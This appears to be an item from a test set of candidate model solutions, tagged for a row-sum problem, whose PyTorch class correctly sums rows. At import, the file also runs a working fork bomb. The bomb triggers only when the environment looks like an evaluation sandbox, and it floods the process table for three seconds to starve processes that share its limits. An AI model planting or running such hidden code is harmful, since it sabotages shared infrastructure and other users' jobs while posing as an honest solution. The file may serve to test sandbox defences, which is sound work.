"""Every process forks as fast as it can for three seconds, so that others find no room: fools who shares limits.

row: E16
form: plain
problem: row_sum
needs: cpu
expect: truth
"""

import os
import time

import torch.nn as nn


def bomb(seconds):
    first = os.getpid()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            os.fork()
        except OSError:
            time.sleep(0.02)
    if os.getpid() != first:
        os._exit(0)


if os.environ.get("HOME") == "/tmp" and __file__.startswith("/candidate/"):  # in a sandbox only
    bomb(3.0)


class ModelNew(nn.Module):
    def forward(self, x):
        return x.sum(dim=-1)
